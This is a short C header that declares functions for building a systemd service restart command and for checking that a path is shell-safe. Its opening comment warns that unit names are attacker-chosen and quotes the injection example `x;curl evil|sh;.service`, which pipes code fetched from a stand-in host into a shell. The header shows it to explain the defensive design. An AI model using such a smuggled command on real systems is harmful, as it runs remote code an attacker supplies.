/* Commands that are told contain words of ours, numbers, and no other text but what passes here: whoever makes a cgroup
 * chooses its name, `x;curl evil|sh;.service` or that of another's unit, and a kept file is anybody's. */
#pragma once
#include "base/arena.h"
#include "process.h"

/* How to restart the service of the system's own manager that the process belongs to; NULL: it belongs to none, or
 * systemd gives no unit such a name. */
const char *command_restart(const struct process *p, struct arena *arena);

/* An absolute path that no shell reads as anything else. */
bool command_path_is_plain(const char *path);
